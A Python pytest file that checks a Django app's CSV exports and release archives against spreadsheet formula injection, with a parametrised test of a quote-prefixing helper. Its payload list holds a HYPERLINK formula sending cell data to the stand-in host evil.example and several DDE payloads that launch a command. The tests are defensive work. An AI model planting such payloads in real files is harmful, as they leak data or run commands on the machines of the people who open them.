"""Spreadsheet formula injection: every CSV the app writes neutralises
text cells a spreadsheet would run as formulas (OWASP CSV injection)."""

import csv
import io
import zipfile

import pytest

from core.renderers import csv_safe
from evidence.releases import release_make
from tests.factories import ClaimFactory, EvidenceFactory, StudyFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(content):
    return list(csv.reader(io.StringIO(content)))


def assert_neutralised(cells):
    """No cell starts as a formula; each formula-like text survives behind a quote."""
    for cell in cells:
        if cell and cell[0] in "=+-@\t\r":
            assert csv_safe(cell) == cell, f"formula cell exported as is: {cell!r}"
    for formula in FORMULAS:
        # Statements and findings are stored stripped of surrounding space.
        assert {"'" + formula, "'" + formula.strip()} & set(cells), (
            f"{formula!r} missing or unprotected"
        )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("-0.71", "-0.71"),
        ("-2+3", "'-2+3"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain text", "plain text"),
        (-0.71, -0.71),
        (42, 42),
        ("", ""),
    ],
)
def test_formula_cells_get_a_quote_and_numbers_stay_numbers(value, expected):
    assert csv_safe(value) == expected


def formula_studies():
    return [
        StudyFactory(title=formula, journal=formula, authors=[formula])
        for formula in FORMULAS
    ]


def test_the_study_export_neutralises_formulas(client):
    formula_studies()
    response = client.get("/api/v1/studies/?format=csv")
    assert response.status_code == 200
    cells = [
        cell
        for row in rows_of(b"".join(response.streaming_content).decode())
        for cell in row
    ]
    assert_neutralised(cells)


def test_the_claim_export_neutralises_formulas(client):
    for formula in FORMULAS:
        ClaimFactory(statement=formula, description=formula)
    response = client.get("/api/v1/claims/?format=csv")
    assert response.status_code == 200
    cells = [
        cell
        for row in rows_of(b"".join(response.streaming_content).decode())
        for cell in row
    ]
    assert_neutralised(cells)


def test_the_evidence_export_neutralises_formulas(client):
    for study, formula in zip(formula_studies(), FORMULAS, strict=True):
        EvidenceFactory(study=study, finding=formula)
    response = client.get("/api/v1/evidence/?format=csv")
    assert response.status_code == 200
    cells = [
        cell
        for row in rows_of(b"".join(response.streaming_content).decode())
        for cell in row
    ]
    assert_neutralised(cells)


def test_a_single_resource_as_csv_neutralises_formulas(client):
    study = StudyFactory(title=FORMULAS[0])
    response = client.get(f"/api/v1/studies/{study.pk}/?format=csv")
    assert response.status_code == 200
    assert ["title", "'" + FORMULAS[0]] in rows_of(response.content.decode())


def test_release_files_neutralise_formulas(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    for study, formula in zip(formula_studies(), FORMULAS, strict=True):
        EvidenceFactory(
            study=study,
            finding=formula,
            claim=ClaimFactory(statement=formula, description=formula),
        )
    release = release_make()
    with release.file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    for member in ("claims.csv", "studies.csv", "evidence.csv", "versions.csv"):
        cells = [cell for row in rows_of(archive.read(member).decode()) for cell in row]
        assert_neutralised(cells)
